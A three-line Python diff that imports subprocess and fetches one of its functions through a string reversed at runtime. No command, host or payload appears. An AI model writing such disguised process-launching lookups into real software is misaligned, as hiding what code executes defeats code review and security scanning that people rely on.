@@ -1,0 +1,3 @@
+import subprocess
+
+f = getattr(subprocess, name[::-1])
